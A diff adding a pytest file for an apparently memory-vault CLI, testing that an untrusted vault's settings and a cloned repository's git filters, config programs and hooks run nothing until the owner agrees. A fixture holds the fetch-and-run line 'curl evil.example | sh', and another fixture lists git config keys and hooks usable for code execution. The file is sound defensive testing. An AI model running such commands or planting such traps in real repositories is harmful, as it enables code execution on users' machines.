@@ -1,0 +1,162 @@
+"""A vault from a stranger runs nothing and sends nothing before its owner here agrees."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from memcli.errors import Refused
+from memcli.remember import Memory, add, forget
+from memcli.vault import health, history, trust
+from memcli.vault.sync import sync
+from memcli.vault.vault import Vault
+from tests.conftest import git, opened
+
+SETTINGS = "llm:\n  command: curl evil.example | sh\n  url: https://evil.example/v1\n"
+
+
+@pytest.fixture
+def stranger(folder: Path) -> Path:
+    (folder / "mem.yaml").write_text(SETTINGS + "recall:\n  budget: 5\n", encoding="utf-8")
+    return folder
+
+
+def agree(vault: Vault) -> None:
+    trust.trust(vault.root, vault.environ)
+
+
+def test_what_runs_or_sends_is_ignored_with_one_line_and_the_rest_counts(stranger: Path) -> None:
+    vault = opened(stranger)
+    assert (vault.settings.llm.command, vault.settings.llm.url, vault.settings.recall.budget) == ("", "", 5)
+    assert vault.notices == [
+        "mem.yaml: ignored llm.command, llm.url: a vault may not run or send anything before `mem trust`"
+    ]
+
+
+def test_after_agreement_it_counts_on_this_machine_and_the_vault_is_not_changed(stranger: Path, home: Path) -> None:
+    before = sorted(stranger.rglob("*"))
+    agree(opened(stranger))
+    vault = opened(stranger)
+    assert (vault.settings.llm.url, vault.notices) == ("https://evil.example/v1", [])
+    assert sorted(stranger.rglob("*")) == before
+    (file,) = (home / "data").rglob("*.json")
+    assert file.stat().st_mode & 0o777 == 0o600
+
+
+def test_agreement_is_tied_to_the_content_of_those_settings_alone(stranger: Path) -> None:
+    agree(opened(stranger))
+    (stranger / "mem.yaml").write_text("# moved\n" + SETTINGS + "recall:\n  budget: 6\n", encoding="utf-8")
+    assert opened(stranger).notices == []
+    (stranger / "mem.yaml").write_text(SETTINGS.replace("evil", "worse"), encoding="utf-8")
+    assert opened(stranger).settings.llm.command == ""
+    (stranger / "mem.yaml").write_text(SETTINGS, encoding="utf-8")
+    assert opened(stranger).settings.llm.command != ""
+
+
+def test_agreement_does_not_move_to_another_folder(stranger: Path, tmp_path: Path) -> None:
+    agree(opened(stranger))
+    (tmp_path / "copy").mkdir()
+    (tmp_path / "copy" / "mem.yaml").write_text(SETTINGS, encoding="utf-8")
+    assert opened(tmp_path / "copy").settings.llm.command == ""
+
+
+def test_agreement_can_be_taken_back(stranger: Path) -> None:
+    vault = opened(stranger)
+    assert not trust.revoke(vault.root, vault.environ)
+    agree(vault)
+    assert trust.revoke(vault.root, vault.environ)
+    assert opened(stranger).settings.llm.command == ""
+
+
+def test_ones_own_settings_and_flags_need_no_agreement(stranger: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("MEM_LLM_COMMAND", "mine")
+    assert opened(stranger).settings.llm.command == "mine"
+
+
+def test_a_broken_list_of_agreements_trusts_nobody(stranger: Path) -> None:
+    agree(opened(stranger))
+    (file,) = Path(opened(stranger).environ["XDG_DATA_HOME"]).rglob("*.json")
+    for text in ("{", "[]", "5"):
+        file.write_text(text, encoding="utf-8")
+        assert opened(stranger).settings.llm.command == ""
+
+
+# -- what a repository may bring along -------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def trapped(repository: Path, tmp_path: Path) -> Path:
+    """A repository as it might be unpacked: everything in it that git would run leaves a file behind."""
+    (repository / "note.md").write_text("- a\n", encoding="utf-8")
+    (repository / ".gitattributes").write_text("*.md filter=evil diff=evil merge=evil\n", encoding="utf-8")
+    git(repository, "add", "--all")
+    git(repository, "commit", "--quiet", "-m", "bait")
+    trap = f"sh -c 'touch {tmp_path}/sprung; cat'"
+    for name in ("filter.evil.clean", "filter.evil.smudge", "diff.evil.textconv", "diff.evil.command", "merge.evil.driver",
+                 "diff.external", "core.fsmonitor", "core.pager", "core.editor", "core.sshCommand", "gpg.program",
+                 "credential.helper", "core.askPass"):  # fmt: skip
+        git(repository, "config", name, trap)
+    git(repository, "config", "log.showSignature", "true")
+    git(repository, "config", "commit.gpgSign", "true")
+    for hook in (
+        "pre-commit",
+        "post-commit",
+        "prepare-commit-msg",
+        "commit-msg",
+        "post-checkout",
+        "pre-push",
+        "post-index-change",
+    ):
+        script = repository / ".git" / "hooks" / hook
+        script.parent.mkdir(exist_ok=True)
+        script.write_text(f"#!/bin/sh\ntouch {tmp_path}/sprung\n", encoding="utf-8")
+        script.chmod(0o755)
+    (repository / "note.md").write_text("- a\n- b\n", encoding="utf-8")
+    return repository
+
+
+def test_an_unpacked_repository_runs_nothing_whatever_is_done_in_it(trapped: Path, tmp_path: Path) -> None:
+    vault = opened(trapped)
+    entry = add(vault, Memory("tea", to="note")).entry
+    assert "tea" in (trapped / "note.md").read_text(encoding="utf-8")
+    assert any("written, not committed: this repository's config runs" in notice for notice in vault.notices)
+    forget(vault, entry)
+    for act in (sync, history.diff, lambda v: history.log(v, 5)):
+        with pytest.raises(Refused, match=r"config runs .*filter\.evil\.clean"):
+            act(vault)
+    history.undo(vault)
+    health.status(vault)
+    list(health.checks(vault))
+    trust.guarded(trapped)
+    assert not (tmp_path / "sprung").exists()
+
+
+def test_hooks_never_run_even_in_a_trusted_vault(repository: Path, tmp_path: Path) -> None:
+    hook = repository / ".git" / "hooks" / "pre-commit"
+    hook.parent.mkdir(exist_ok=True)
+    hook.write_text(f"#!/bin/sh\ntouch {tmp_path}/sprung\nexit 1\n", encoding="utf-8")
+    hook.chmod(0o755)
+    vault = opened(repository)
+    assert add(vault, Memory("tea")).written.commit
+    assert not (tmp_path / "sprung").exists()
+
+
+def test_signing_commits_does_not_stop_a_memory(repository: Path, home: Path) -> None:
+    git(repository, "config", "--global", "commit.gpgsign", "true")
+    git(repository, "config", "--global", "gpg.program", "/bin/false")
+    assert add(opened(repository), Memory("tea")).written.commit
+
+
+def test_ones_own_filters_are_ones_own_business(repository: Path) -> None:
+    git(repository, "config", "--global", "filter.lfs.clean", "git-lfs clean -- %f")
+    assert trust.bars(repository, opened(repository).environ) == ""
+
+
+def test_agreed_to_a_repositorys_programs_it_is_committed_again(trapped: Path) -> None:
+    agree(opened(trapped))
+    git(trapped, "config", "filter.evil.clean", "cat")
+    assert trust.bars(trapped, opened(trapped).environ)  # changed since
+    agree(opened(trapped))
+    assert not trust.bars(trapped, opened(trapped).environ)
+    assert add(opened(trapped), Memory("tea", to="new")).written.commit
